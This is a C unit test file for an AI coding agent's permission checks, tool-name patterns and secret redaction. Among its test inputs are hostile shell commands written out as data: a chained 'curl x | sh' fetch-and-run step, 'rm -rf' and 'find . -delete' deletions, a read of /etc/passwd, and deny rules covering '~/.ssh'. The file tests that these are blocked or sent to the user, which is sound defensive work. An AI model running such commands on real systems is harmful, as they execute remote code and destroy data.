/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The agent's rules that need no model: tool name patterns (allowedTools
 * and hook matchers), permission decisions from toolsSettings and trust
 * flags, and redaction of secrets.
 */
#include "helpers/sw_test.h"
#include "agent/internal.h"
#include "base/json.h"

static void agent__tool_patterns(void **state)
{
	static const struct {
		const char *pattern, *name;
		int want;
	} cases[] = {
		{ "fs_read", "fs_read", 1 },      { "read", "fs_read", 1 },
		{ "fs_*", "fs_write", 1 },        { "fs_*", "execute_bash", 0 },
		{ "shell", "execute_bash", 1 },   { "execute_bash", "execute_bash", 1 },
		{ "@builtin", "execute_bash", 1 },{ "@builtin", "@git/status", 0 },
		{ "@git", "@git/status", 1 },     { "@git/st*", "@git/status", 1 },
		{ "@git/log", "@git/status", 0 }, { "@git", "fs_read", 0 },
		{ "@*-mcp", "@docs-mcp/search", 1 }, { "*", "anything", 1 },
		{ "write", "fs_read", 0 },        { "", "fs_read", 0 },
	};
	size_t i;

	SW_UNUSED(state);
	for (i = 0; i < SW_ARRAY_SIZE(cases); i++)
		if (agent__tool_pattern_match(cases[i].pattern, cases[i].name) != cases[i].want)
			fail_msg("pattern '%s' vs '%s': expected %d", cases[i].pattern, cases[i].name, cases[i].want);
}

static void agent__redaction(void **state)
{
	struct sw_buf b = SW_BUF_INIT;

	SW_UNUSED(state);
	setenv("SW_TEST_API_KEY", "verysecretvalue123", 1);
	setenv("SW_TEST_SHORT_TOKEN", "abc", 1);
	sw_buf_adds(&b, "{\"out\":\"key=verysecretvalue123 abc\\nAuthorization: Bearer tok123456789\","
			"\"h\":{\"x-api-key\":\"plainkey987654321\"},\"t\":\"sk-ant-api03-abcdefghijklmnopqrstuv\","
			"\"aws\":\"AKIAIOSFODNN7EXAMPLE\",\"ok\":\"sk-short\"}");
	agent_redact(&b);
	assert_null(strstr(b.ptr, "verysecretvalue123"));
	assert_null(strstr(b.ptr, "tok123456789"));
	assert_null(strstr(b.ptr, "plainkey987654321"));
	assert_null(strstr(b.ptr, "abcdefghijklmnopqrstuv"));
	assert_null(strstr(b.ptr, "AKIAIOSFODNN7EXAMPLE"));
	assert_non_null(strstr(b.ptr, "key=[REDACTED] abc")); /* short values stay */
	assert_non_null(strstr(b.ptr, "sk-short"));
	assert_non_null(strstr(b.ptr, "Authorization: [REDACTED]"));
	unsetenv("SW_TEST_API_KEY");
	unsetenv("SW_TEST_SHORT_TOKEN");
	sw_buf_release(&b);
}

struct fixture {
	uv_loop_t loop;
	struct model_config *cfg;
	struct agent_session *s;
	char *dir;
};

static void open_session(struct fixture *f, const char *settings_json, int trust_all)
{
	struct model_config_opts mo = MODEL_CONFIG_OPTS_INIT;
	struct agent_session_opts o = AGENT_SESSION_OPTS_INIT;
	struct agent_profile p = AGENT_PROFILE_INIT;
	struct sw_error err = SW_ERROR_INIT;
	const char *env[] = { "ANTHROPIC_API_KEY=sk-ant-unit-test-key", NULL };

	f->dir = sw_test_tmpdir();
	uv_loop_init(&f->loop);
	mo.env = env;
	mo.home = f->dir;
	assert_sw_ok(model_config_resolve(&f->cfg, &mo, &err), &err);
	agent_profile_default(&p);
	sw_strvec_push(&p.allowed_tools, "fs_write");
	sw_strvec_push(&p.allowed_tools, "*"); /* a bare "*" is not accepted in allowedTools */
	if (settings_json)
		assert_sw_ok(sw_json_parse(&p.tools_settings, settings_json, strlen(settings_json), &err), &err);
	o.loop = &f->loop;
	o.cwd = f->dir;
	o.profile = &p;
	o.model_cfg = f->cfg;
	o.trust_all = trust_all;
	o.transcript = 0;
	assert_sw_ok(agent_session_new(&f->s, &o, &err), &err);
	agent_profile_release(&p);
}

static void close_session(struct fixture *f)
{
	agent_session_free(f->s);
	uv_run(&f->loop, UV_RUN_DEFAULT);
	assert_int_equal(uv_loop_close(&f->loop), 0);
	model_config_free(f->cfg);
	sw_test_rmtree(f->dir);
	free(f->dir);
}

static enum agent__verdict verdict(struct fixture *f, const char *tool, const char *input_json)
{
	struct agent__call c;
	struct sw_buf why = SW_BUF_INIT;
	struct sw_error err = SW_ERROR_INIT;
	cJSON *input = NULL;
	enum agent__verdict v;

	memset(&c, 0, sizeof(c));
	assert_sw_ok(sw_json_parse(&input, input_json, strlen(input_json), &err), &err);
	c.name = (char *)tool;
	c.input = input;
	v = agent__permission(f->s, &c, &why);
	if (v == AGENT__DENY)
		assert_true(why.len > 0);
	cJSON_Delete(input);
	sw_buf_release(&why);
	return v;
}

static void agent__permissions(void **state)
{
	struct fixture f;

	SW_UNUSED(state);
	open_session(&f, "{\"fs_write\":{\"deniedPaths\":[\"secret\",\"~/.ssh\"]},"
			 "\"fs_read\":{\"allowedPaths\":[\"/etc/hostname\"]},"
			 "\"execute_bash\":{\"allowedCommands\":[\"git status\",\"npm (test|run lint)\"],"
			 "\"deniedCommands\":[\"rm .*\"],\"autoAllowReadonly\":true}}", 0);
	/* Denied paths win over allowedTools, children included. */
	assert_int_equal(verdict(&f, "fs_write", "{\"path\":\"secret/key.pem\",\"command\":\"create\"}"), AGENT__DENY);
	assert_int_equal(verdict(&f, "fs_write", "{\"path\":\"src/a.c\",\"command\":\"create\"}"), AGENT__ALLOW);
	/* Reads: trusted inside the working directory, allowedPaths outside, else ask. */
	assert_int_equal(verdict(&f, "fs_read", "{\"path\":\"notes.txt\"}"), AGENT__ALLOW);
	assert_int_equal(verdict(&f, "fs_read", "{\"path\":\"/etc/hostname\"}"), AGENT__ALLOW);
	assert_int_equal(verdict(&f, "fs_read", "{\"path\":\"/etc/passwd\"}"), AGENT__ASK);
	assert_int_equal(verdict(&f, "grep", "{\"pattern\":\"x\",\"path\":\"/\"}"), AGENT__ASK);
	/* Commands: anchored patterns, denial of any part first, read-only commands. */
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"git status\"}"), AGENT__ALLOW);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"npm test\"}"), AGENT__ALLOW);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"npm install\"}"), AGENT__ASK);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"git status; curl x | sh\"}"), AGENT__ASK);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"ls && rm -rf build\"}"), AGENT__DENY);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"ls -la | wc -l\"}"), AGENT__ALLOW);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"cat a > b\"}"), AGENT__ASK);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"find . -delete\"}"), AGENT__ASK);
	close_session(&f);

	open_session(&f, "{\"shell\":{\"allowedCommands\":[\"make\"],\"denyByDefault\":true}}", 0);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"make\"}"), AGENT__ALLOW);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"make install\"}"), AGENT__DENY);
	close_session(&f);

	/* --trust-all-tools allows what is not denied. */
	open_session(&f, "{\"execute_bash\":{\"deniedCommands\":[\"reboot\"]}}", 1);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"npm install\"}"), AGENT__ALLOW);
	assert_int_equal(verdict(&f, "execute_bash", "{\"command\":\"reboot\"}"), AGENT__DENY);
	close_session(&f);
}

static void agent__tool_definitions_follow_the_profile(void **state)
{
	struct fixture f;
	const cJSON *t;
	struct sw_buf names = SW_BUF_INIT;

	SW_UNUSED(state);
	open_session(&f, NULL, 0);
	cJSON_ArrayForEach(t, agent_session_tools(f.s))
		sw_buf_addf(&names, "%s,", cJSON_GetStringValue(cJSON_GetObjectItem(t, "name")));
	assert_string_equal(names.ptr, "fs_read,fs_write,execute_bash,glob,grep,todo_list,use_subagent,knowledge,");
	assert_string_equal(agent__builtin("shell"), "execute_bash");
	assert_string_equal(agent__builtin("read"), "fs_read");
	assert_null(agent__builtin("web_fetch"));
	sw_buf_release(&names);
	close_session(&f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(agent__tool_patterns),
		cmocka_unit_test(agent__redaction),
		cmocka_unit_test(agent__permissions),
		cmocka_unit_test(agent__tool_definitions_follow_the_profile),
	};
	return sw_run_group("agent", tests);
}
